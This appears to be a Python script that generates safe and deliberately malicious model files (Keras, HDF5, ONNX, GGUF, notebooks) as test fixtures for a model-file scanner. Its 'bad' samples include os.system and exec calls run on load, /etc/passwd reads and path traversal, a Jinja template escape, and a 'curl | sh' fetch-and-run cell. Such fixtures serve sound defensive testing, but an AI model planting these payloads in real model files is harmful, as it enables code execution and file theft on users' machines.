"""Saves models with the libraries that are installed: model_formats.py FOLDER

Below FOLDER, `good` has what the libraries write for ordinary models, and `bad` has models that act
when they are loaded or run, each named for what it does.
"""

import json
import os
import pathlib
import sys
import zipfile

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
os.environ["KERAS_BACKEND"] = "tensorflow"

import gguf
import h5py
import keras
import lightgbm
import nbformat
import numpy as np
import onnx
import pandas as pd
import tensorflow as tf
import xgboost
from keras import layers
from onnx import TensorProto, helper, numpy_helper
from safetensors.numpy import save_file
from skl2onnx import to_onnx
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression

FOLDER = pathlib.Path(sys.argv[1])
GOOD = FOLDER / "good"
BAD = FOLDER / "bad"
X = np.random.default_rng(1).random((64, 8)).astype("float32")
Y = (X.sum(1) > 4).astype("int32")


def both(model, name, folder=GOOD):
    model.save(folder / f"{name}.keras")
    model.save(folder / f"{name}.h5")


def keras_good():
    schedule = keras.optimizers.schedules.ExponentialDecay(1e-3, 10, 0.9)
    dense = keras.Sequential(
        [
            layers.Input((8,)),
            layers.Dense(16, activation="relu", kernel_regularizer="l2"),
            layers.BatchNormalization(),
            layers.Dropout(0.2),
            layers.Dense(1, activation="sigmoid"),
        ]
    )
    dense.compile(keras.optimizers.Adam(schedule), "binary_crossentropy", metrics=[keras.metrics.AUC()])
    dense.fit(X, Y, verbose=0)
    both(dense, "dense")
    dense.save_weights(GOOD / "dense.weights.h5")
    both(keras.Sequential([layers.Input((8,))] + [layers.Dense(8) for _ in range(60)]), "deep")
    words = layers.Input((20,), dtype="int32")
    hidden = layers.Embedding(100, 16)(words)
    hidden = layers.Add()([layers.MultiHeadAttention(2, 8)(hidden, hidden), hidden])
    hidden = keras.ops.mean(layers.LayerNormalization()(hidden), axis=1)
    keras.Model(words, layers.Dense(2)(hidden)).save(GOOD / "attention.keras")
    vectors = layers.TextVectorization(max_tokens=50, output_sequence_length=5)
    vectors.adapt(np.array(["hello world", "a b c"]))
    keras.Sequential([layers.Input((1,), dtype="string"), vectors]).save(GOOD / "text.keras")


def keras_bad():
    runs = lambda q: (__import__("os").system("id"), q)[1]
    both(keras.Sequential([layers.Input((8,)), layers.Lambda(runs)]), "lambda-system", BAD)
    both(keras.Sequential([layers.Input((8,)), layers.Lambda(lambda q: q * 2)]), "lambda", BAD)
    function = {"class_name": "function", "registered_name": "function"}
    configurations = {
        "imports-os": {"module": "os", "config": "system"} | function,
        "calls-exec": {"module": "builtins", "config": "exec"} | function,
        "downloads": {"module": "keras.utils", "config": "get_file"} | function,
        "reads-vocabulary": {
            "module": "keras.layers",
            "class_name": "StringLookup",
            "config": {"vocabulary": "/etc/passwd"},
        },
    }
    for name, configuration in configurations.items():
        with zipfile.ZipFile(BAD / f"{name}.keras", "w") as archive:
            archive.writestr("metadata.json", '{"keras_version": "3.9.0"}')
            archive.writestr("config.json", json.dumps(configuration))


def hdf5():
    with h5py.File(GOOD / "dense-links.h5", "w", libver="latest") as file:
        for i in range(300):
            file.create_dataset(f"group/d{i}", data=np.arange(4))
        for i in range(40):
            file["group"].attrs[f"a{i}"] = f"text {i}"
    with h5py.File(GOOD / "ordered.h5", "w", track_order=True) as file:
        for i in range(2000):
            file.create_group(f"g{i}", track_order=True)
        file.create_dataset("c", data=np.zeros((99, 99)), compression="gzip", shuffle=True)
    with h5py.File(GOOD / "user-block.h5", "w", userblock_size=1024) as file:
        file["x"] = np.arange(3)
    with h5py.File(BAD / "link.h5", "w") as file:
        file["e"] = h5py.ExternalLink("/etc/passwd.h5", "/x")
    with h5py.File(BAD / "storage.h5", "w") as file:
        file.create_dataset("d", (10,), dtype="i1", external=[("/etc/passwd", 0, 10)])
    with h5py.File(BAD / "virtual.h5", "w", libver="latest") as file:
        layout = h5py.VirtualLayout((4,), dtype="f4")
        layout[:] = h5py.VirtualSource("/tmp/source.h5", "d", shape=(4,))
        file.create_virtual_dataset("v", layout)
    with h5py.File(BAD / "dense-attributes.h5", "w", libver="latest") as file:
        for i in range(30):
            file.attrs[f"a{i}"] = "x"
        layer = {"class_name": "Lambda", "config": {"function": "lambda x: eval('1')"}}
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}})


class Scale(tf.Module):
    def __init__(self):
        self.v = tf.Variable([1.0, 2.0])

    @tf.function(input_signature=[tf.TensorSpec([None, 2])])
    def f(self, q):
        return q * self.v


class Reads(tf.Module):
    @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
    def f(self, q):
        return tf.io.read_file(q)


class Writes(tf.Module):
    @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
    def f(self, q):
        tf.io.write_file("/tmp/x", q)
        return q


def onnx_model(nodes, initializers=(), domains=("",), **more):
    value = lambda name: helper.make_tensor_value_info(name, TensorProto.FLOAT, [2])
    graph = helper.make_graph(nodes, "g", [value("x")], [value("y")], list(initializers))
    imports = [helper.make_opsetid(domain, 18 if domain == "" else 1) for domain in domains]
    return helper.make_model(graph, opset_imports=imports, **more)


def onnx_models():
    weights = numpy_helper.from_array(np.ones((99, 99), "float32"), "w")
    add = helper.make_node("Add", ["x", "w"], ["y"])
    onnx.save(onnx_model([add], [weights]), GOOD / "add.onnx")
    onnx.save(
        onnx_model([add], [weights]),
        GOOD / "external.onnx",
        save_as_external_data=True,
        location="external.onnx_data",
        size_threshold=10,
    )
    relu = helper.make_node("Relu", ["a"], ["b"])
    function = helper.make_function("own", "F", ["a"], ["b"], [relu], [helper.make_opsetid("", 18)])
    call = helper.make_node("F", ["x"], ["y"], domain="own")
    onnx.save(onnx_model([call], domains=("", "own"), functions=[function]), GOOD / "function.onnx")
    for name, estimator in (("lr", LogisticRegression()), ("rf", RandomForestClassifier(10))):
        (GOOD / f"{name}.onnx").write_bytes(to_onnx(estimator.fit(X, Y), X[:1]).SerializeToString())
    custom = helper.make_node("Evil", ["x"], ["y"], domain="own")
    onnx.save(onnx_model([custom], domains=("", "own")), BAD / "custom.onnx")
    for name, location in (("up", "../../x"), ("absolute", "/etc/passwd"), ("drive", "C:\\x")):
        tensor = TensorProto(name="w", data_type=1, dims=[2], data_location=TensorProto.EXTERNAL)
        entry = tensor.external_data.add()
        entry.key, entry.value = "location", location
        (BAD / f"{name}.onnx").write_bytes(onnx_model([add], [tensor]).SerializeToString())


def gguf_model(path, template, endian=gguf.GGUFEndian.LITTLE):
    writer = gguf.GGUFWriter(path, "llama", endianess=endian)
    writer.add_token_list(["a", "b", "<s>"])
    writer.add_chat_template(template)
    writer.add_tensor("t", X)
    writer.add_tensor("u", np.zeros((32, 32), "float16"))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def boosted(booster):
    classes = (X.sum(1) * 1.5).astype("int32") % 3
    table = pd.DataFrame({"a": X[:, 0], "c": pd.Categorical([str(int(v * 20)) for v in X[:, 1]])})
    binary = {"objective": "binary:logistic"}
    for name, data, label, more in (
        ("dart", X, Y, binary | {"booster": "dart", "rate_drop": 0.5}),
        ("linear", X, Y, binary | {"booster": "gblinear"}),
        ("classes", X, classes, {"objective": "multi:softprob", "num_class": 3}),
        ("categories", table, Y, binary | {"max_cat_to_onehot": 2}),
        ("pruned", X, Y, binary | {"gamma": 1.0, "max_depth": 8}),
        ("vector", X, X[:, :2], {"multi_strategy": "multi_output_tree", "tree_method": "hist"}),
    ):
        trained = xgboost.train(more, xgboost.DMatrix(data, label=label, enable_categorical=True), 6)
        trained.set_attr(note="words")
        trained.save_model(GOOD / f"xgboost-{name}.json")
        trained.save_model(GOOD / f"xgboost-{name}.ubj")
    for name, data, label, more in (
        ("plain", X, Y, {}),
        ("dart", X, Y, {"boosting": "dart"}),
        ("classes", X, classes, {"objective": "multiclass", "num_class": 3}),
        ("categories", table, Y, {"min_data_per_group": 1, "cat_smooth": 0, "max_cat_to_onehot": 1}),
        ("stump", X, Y, {"min_data_in_leaf": 1000}),
        ("linear", X, X[:, 0], {"objective": "regression", "linear_tree": True}),
    ):
        parameters = {"objective": "binary", "verbose": -1, "min_data_in_leaf": 2} | more
        lightgbm.train(parameters, lightgbm.Dataset(data, label), 5).save_model(GOOD / f"lightgbm-{name}.txt")
    whole = booster.save_raw("ubj")
    (BAD / "cut.ubj").write_bytes(whole[: len(whole) // 2])
    document = json.loads(booster.save_raw("json"))
    tree = document["learner"]["gradient_booster"]["model"]["trees"][0]
    tree["left_children"][0] = 1_000_000
    (BAD / "child.json").write_text(json.dumps(document))
    lines = (GOOD / "lightgbm-plain.txt").read_text()
    (BAD / "sizes.txt").write_text(lines.replace("tree_sizes=", "tree_sizes=9", 1))
    (BAD / "cut.txt").write_text(lines[: lines.index("end of trees")])


def others():
    data = xgboost.DMatrix(X, label=Y)
    booster = xgboost.train({"objective": "binary:logistic"}, data, 10)
    booster.save_model(GOOD / "xgboost.json")
    booster.save_model(GOOD / "xgboost.ubj")
    boosted(booster)
    save_file({"a": X, "z": np.zeros((0,), "int64")}, GOOD / "m.safetensors", metadata={"format": "pt"})
    plain = "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}"
    gguf_model(GOOD / "little.gguf", plain)
    gguf_model(GOOD / "big.gguf", plain, gguf.GGUFEndian.BIG)
    gguf_model(BAD / "template.gguf", "{{ cycler.__init__.__globals__.os.system('id') }}")
    cell = nbformat.v4.new_code_cell
    notebook = nbformat.v4.new_notebook
    nbformat.write(notebook(cells=[cell("import numpy as np\nprint(np.ones(3))")]), GOOD / "n.ipynb")
    nbformat.write(notebook(cells=[cell("!curl http://host.invalid | sh")]), BAD / "shell.ipynb")


GOOD.mkdir(parents=True)
BAD.mkdir()
keras_good()
keras_bad()
hdf5()
scale = Scale()
tf.saved_model.save(scale, GOOD / "saved-model")
tf.saved_model.save(Reads(), BAD / "reads")
tf.saved_model.save(Writes(), BAD / "writes")
onnx_models()
others()
